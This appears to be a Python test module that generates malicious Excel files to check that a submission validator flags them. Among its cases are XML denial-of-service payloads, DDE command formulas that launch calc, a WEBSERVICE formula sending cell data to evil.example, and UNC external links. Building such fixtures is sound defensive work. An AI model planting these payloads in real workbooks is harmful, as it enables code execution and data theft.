"""Hostile submissions aimed at the parsing side of validation (issues 15 and 16).

Each kind edits a correctly filled learning_party_org submission (UDF variant) at the byte level, the
way a hostile user with a zip tool would, and names the finding code it must produce. ``CELL`` maps
the kinds whose finding names a cell to that cell (sheet 考评表).
"""

from __future__ import annotations

import functools
import io
import random
import re
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.kinds import HostileKind

MAIN = "xl/worksheets/sheet1.xml"
WORKBOOK = "xl/workbook.xml"
STYLES = "xl/styles.xml"
RUBRIC = "learning_party_org"
SHEET = "考评表"
UNIT_CELL, COUNT_CELL, COUNT_CELL_2, FORMULA_CELL = "B2", "F5", "F6", "H5"
MiB = 1024 * 1024


@functools.lru_cache(maxsize=1)
def good_bytes() -> bytes:
    """A correctly filled submission (templates built and filled in a temporary folder, then removed)."""
    from lxbz_xl import load_rubric
    from lxbz_xl.case import read_case_file
    from lxbz_xl.workbook.build import build_template
    from lxbz_xl.workbook.fill import fill_case

    examples = Path(__file__).resolve().parents[2] / "examples" / "cases"
    case = read_case_file(sorted(examples.glob(f"{RUBRIC}_*.yaml"))[0])[0]
    with tempfile.TemporaryDirectory(prefix="lxbz-kinds-") as tmp:
        rubric = load_rubric(RUBRIC)
        template = build_template(rubric, Path(tmp), "udf")
        out = Path(tmp) / "good.xlsx"
        fill_case(rubric, case, out, "udf", template)
        return out.read_bytes()


def good(directory: Path, name: str = "normal.xlsx") -> Path:
    path = directory / name
    path.write_bytes(good_bytes())
    return path


def _part(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(good_bytes())) as z:
        return z.read(name)


def _write(
    directory: Path,
    name: str,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    stored: frozenset[str] = frozenset(),
) -> Path:
    replace = dict(replace or {})
    path = directory / name
    with (
        zipfile.ZipFile(io.BytesIO(good_bytes())) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = replace.pop(info.filename, None)
            kind = zipfile.ZIP_STORED if info.filename in stored else zipfile.ZIP_DEFLATED
            dst.writestr(info.filename, src.read(info) if data is None else data, compress_type=kind)
        for part, data in {**replace, **(add or {})}.items():
            dst.writestr(part, data)
    return path


def _edit_sheet(edit: Callable[[bytes], bytes]) -> dict[str, bytes]:
    data = _part(MAIN)
    new = edit(data)
    assert new != data, "the edit changed nothing"
    return {MAIN: new}


def _cell(ref: str, inner: bytes, t: str | None = None) -> dict[str, bytes]:
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(?:/>|>(.*?)</c>)', re.S)

    def one(m: re.Match[bytes]) -> bytes:
        attrs = re.sub(rb'\s+t="[^"]*"', b"", m.group(1)).rstrip()
        if t:
            attrs += b' t="' + t.encode() + b'"'
        return b'<c r="' + ref.encode() + b'"' + attrs + b">" + inner + b"</c>"

    return _edit_sheet(lambda d: pattern.sub(one, d, count=1))


def _letters(size: int, seed: int = 15) -> bytes:
    return bytes(random.Random(seed).choices(b"abcdefghijklmnopqrstuvwxyz", k=size))


def _after_sheet_data(extra: bytes) -> dict[str, bytes]:
    return _edit_sheet(lambda d: d.replace(b"</sheetData>", b"</sheetData>" + extra, 1))


# ------------------------------------------------------------------------------------------- issue 15


def _names(count: int, seed: int) -> list[bytes]:
    """Random two-letter tag names: keep the part incompressible enough to pass the ratio check."""
    rng = random.Random(seed)
    letters = b"abcdefghijklmnopqrstuvwxyz"
    return [bytes((rng.choice(letters), rng.choice(letters))) for _ in range(count)]


def deep_nesting(directory: Path) -> Path:
    """About 8 MB of nested elements after the cells."""
    names = _names(800_000, 1)
    extra = b"<extLst>" + b"".join(b"<" + n + b">" for n in names)
    extra += b"".join(b"</" + n + b">" for n in reversed(names)) + b"</extLst>"
    return _write(directory, "deep_nesting.xlsx", _after_sheet_data(extra))


def long_attribute(directory: Path) -> Path:
    """A 4 MB attribute value (random letters: neither the ratio nor the size limit stops it first)."""
    return _write(directory, "long_attribute.xlsx", _after_sheet_data(b'<x v="' + _letters(4 * MiB) + b'"/>'))


def long_tag_run(directory: Path) -> Path:
    """O47/O48 style: a row tag with a 3 MB run of blanks, which a backtracking scan retries."""
    run = bytes(random.Random(2).choices(b" \t\r\n", k=3 * MiB))
    return _write(
        directory,
        "long_tag_run.xlsx",
        _edit_sheet(lambda d: d.replace(b'<row r="6"', b'<row r="6"' + run, 1)),
    )


def long_text(directory: Path) -> Path:
    """A 2,000,000-character text node (beyond every field's length)."""
    extra = b"<extLst><ext><t>" + _letters(2_000_000) + b"</t></ext></extLst>"
    return _write(directory, "long_text.xlsx", _after_sheet_data(extra))


def element_flood(directory: Path) -> Path:
    """1,100,000 small elements: a small file, past the per-file element limit (1,000,000)."""
    extra = b"<extLst>" + b"".join(b"<" + n + b"/>" for n in _names(1_100_000, 3)) + b"</extLst>"
    return _write(directory, "element_flood.xlsx", _after_sheet_data(extra))


def huge_exponent(directory: Path) -> Path:
    """The text 1e30000000 typed into a count cell."""
    return _write(
        directory, "huge_exponent.xlsx", _cell(COUNT_CELL, b"<is><t>1e30000000</t></is>", "inlineStr")
    )


# ------------------------------------------------------------------------------------------- issue 16


def dde_formula(directory: Path) -> Path:
    inner = b"<f>cmd|' /C calc'!A0</f><v>0</v>"
    return _write(directory, "dde_formula.xlsx", _cell(COUNT_CELL, inner))


def hyperlink_formula(directory: Path) -> Path:
    inner = b"<f>HYPERLINK(&quot;http://evil.example/x&quot;,0)</f><v>0</v>"
    return _write(directory, "hyperlink_formula.xlsx", _cell(COUNT_CELL, inner))


def webservice_formula(directory: Path) -> Path:
    inner = b"<f>_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;B2)</f><v>0</v>"
    return _write(directory, "webservice_formula.xlsx", _cell(COUNT_CELL_2, inner))


def external_link_unc(directory: Path) -> Path:
    """An externalLink part whose relationship points at a UNC share."""
    rels = _part("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="file:///\\\\evil-host\\share\\x.xlsx" TargetMode="External"/></Relationships>'
    )
    return _write(
        directory,
        "external_link.xlsx",
        {"xl/_rels/workbook.xml.rels": rels},
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
    )


def dde_defined_name(directory: Path) -> Path:
    """A defined name whose formula is a DDE call (runs a program when evaluated)."""
    workbook = _part(WORKBOOK).replace(
        b"</definedNames>", b"<definedName name=\"x\">cmd|' /C calc'!A0</definedName></definedNames>", 1
    )
    return _write(directory, "dde_defined_name.xlsx", {WORKBOOK: workbook})


def addin_prefix(directory: Path) -> Path:
    """A template formula called through an add-in on a share: the comparison must not strip it."""
    pattern = re.compile(rb'(<c r="H5"[^>]*><f>)([^<]*)(</f>)')
    edit = _edit_sheet(
        lambda d: pattern.sub(lambda m: m.group(1) + b"'\\\\host\\x.xlam'!" + m.group(2) + m.group(3), d, 1)
    )
    return _write(directory, "addin_prefix.xlsx", edit)


def merged_inputs(directory: Path) -> Path:
    return _write(
        directory,
        "merged_inputs.xlsx",
        _after_sheet_data(b'<mergeCells count="1"><mergeCell ref="F5:F6"/></mergeCells>'),
    )


def zero_height_row(directory: Path) -> Path:
    edit = _edit_sheet(
        lambda d: re.sub(rb'<row r="6"([^>]*)>', rb'<row r="6" ht="0" customHeight="1">', d, count=1)
    )
    return _write(directory, "zero_height_row.xlsx", edit)


def zero_width_column(directory: Path) -> Path:
    edit = _edit_sheet(
        lambda d: d.replace(
            b'<col width="10" customWidth="1" min="6" max="6" />',
            b'<col width="0" customWidth="1" min="6" max="6" />',
            1,
        )
    )
    return _write(directory, "zero_width_column.xlsx", edit)


def empty_conditional_format(directory: Path) -> Path:
    """F5 styled with [>=0]"";[<0]"": every number shows as nothing."""
    styles = _part(STYLES)
    code = b"[&gt;=0]&quot;&quot;;[&lt;0]&quot;&quot;"
    styles = re.sub(
        rb"<numFmts[^>]*?/>|<numFmts[^>]*>.*?</numFmts>",
        b'<numFmts count="1"><numFmt numFmtId="200" formatCode="' + code + b'"/></numFmts>',
        styles,
        count=1,
        flags=re.S,
    )
    xfs = re.search(rb"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs is not None
    count = len(re.findall(rb"<xf\b", xfs.group(1)))
    styles = styles.replace(
        b"</cellXfs>",
        b'<xf numFmtId="200" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>',
        1,
    )
    sheet = re.sub(rb'<c r="F5" s="\d+"', b'<c r="F5" s="' + str(count).encode() + b'"', _part(MAIN), count=1)
    return _write(directory, "empty_format.xlsx", {STYLES: styles, MAIN: sheet})


def very_hidden_sheet(directory: Path) -> Path:
    workbook = _part(WORKBOOK).replace(
        'name="考评表" sheetId="1" state="visible"'.encode(),
        'name="考评表" sheetId="1" state="veryHidden"'.encode(),
        1,
    )
    return _write(directory, "very_hidden.xlsx", {WORKBOOK: workbook})


def invalid_utf8(directory: Path) -> Path:
    return _write(
        directory, "invalid_utf8.xlsx", _cell(UNIT_CELL, b"<is><t>\xe7\xba\xff\xfe</t></is>", "inlineStr")
    )


def bad_crc(directory: Path) -> Path:
    """The worksheet stored uncompressed, one digit of a value changed after the CRC was written."""
    path = _write(directory, "bad_crc.xlsx", stored=frozenset({MAIN}))
    data = bytearray(path.read_bytes())
    at = data.find(b'<c r="F2" s="6" ><v>2025</v>')
    assert at > 0
    digit = at + len(b'<c r="F2" s="6" ><v>')
    data[digit] = ord("3")
    path.write_bytes(bytes(data))
    return path


def gbk_sheet(directory: Path) -> Path:
    """A worksheet declared and encoded as GBK (expat decodes only UTF-8/UTF-16 and single-byte sets)."""
    text = _part(MAIN).decode("utf-8")
    data = ('<?xml version="1.0" encoding="GBK"?>' + text).encode("gbk")
    return _write(directory, "gbk_sheet.xlsx", {MAIN: data})


def number_1e308(directory: Path) -> Path:
    return _write(directory, "number_1e308.xlsx", _cell(COUNT_CELL, b"<v>1E+308</v>"))


def long_unit_name(directory: Path) -> Path:
    return _write(
        directory,
        "long_unit_name.xlsx",
        _cell(UNIT_CELL, b"<is><t>" + "单".encode() * 32_767 + b"</t></is>", "inlineStr"),
    )


def utf16_sheet(directory: Path) -> Path:
    """Not hostile: a UTF-16 worksheet with its declaration must read exactly like the UTF-8 one."""
    text = _part(MAIN).decode("utf-8")
    data = ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")
    return _write(directory, "utf16_sheet.xlsx", {MAIN: data})


KINDS: list[HostileKind] = [
    HostileKind("deep_nesting", deep_nesting, "xml_too_deep"),
    HostileKind("long_attribute", long_attribute, "xml_attribute_too_long"),
    HostileKind("long_tag_run", long_tag_run, "xml_attribute_too_long"),
    HostileKind("long_text", long_text, "xml_text_too_long"),
    HostileKind("element_flood", element_flood, "xml_too_many_elements"),
    HostileKind("huge_exponent", huge_exponent, "number_out_of_range"),
    HostileKind("number_1e308", number_1e308, "number_out_of_range"),
    HostileKind("long_unit_name", long_unit_name, "text_too_long"),
    HostileKind("dde_formula", dde_formula, "input_formula"),
    HostileKind("hyperlink_formula", hyperlink_formula, "input_formula"),
    HostileKind("webservice_formula", webservice_formula, "input_formula"),
    HostileKind("external_link_unc", external_link_unc, "external_link"),
    HostileKind("dde_defined_name", dde_defined_name, "external_link"),
    HostileKind("addin_prefix", addin_prefix, "addin_reference"),
    HostileKind("merged_inputs", merged_inputs, "merged_input"),
    HostileKind("zero_height_row", zero_height_row, "hidden_row"),
    HostileKind("zero_width_column", zero_width_column, "hidden_column"),
    HostileKind("empty_conditional_format", empty_conditional_format, "hidden_cell"),
    HostileKind("very_hidden_sheet", very_hidden_sheet, "sheet_hidden"),
    HostileKind("invalid_utf8", invalid_utf8, "invalid_utf8"),
    HostileKind("bad_crc", bad_crc, "bad_crc"),
    HostileKind("gbk_sheet", gbk_sheet, "unsupported_encoding"),
]

# The cell each finding must name (sheet 考评表); kinds absent here name the file and part only.
CELL: dict[str, str] = {
    "huge_exponent": COUNT_CELL,
    "number_1e308": COUNT_CELL,
    "long_unit_name": UNIT_CELL,
    "dde_formula": COUNT_CELL,
    "hyperlink_formula": COUNT_CELL,
    "webservice_formula": COUNT_CELL_2,
    "addin_prefix": FORMULA_CELL,
    "merged_inputs": COUNT_CELL_2,  # merged under F5: F6's value is not shown
    "zero_height_row": COUNT_CELL_2,
    "zero_width_column": "F2",  # the first input of column F
    "empty_conditional_format": COUNT_CELL,
    "invalid_utf8": UNIT_CELL,
}
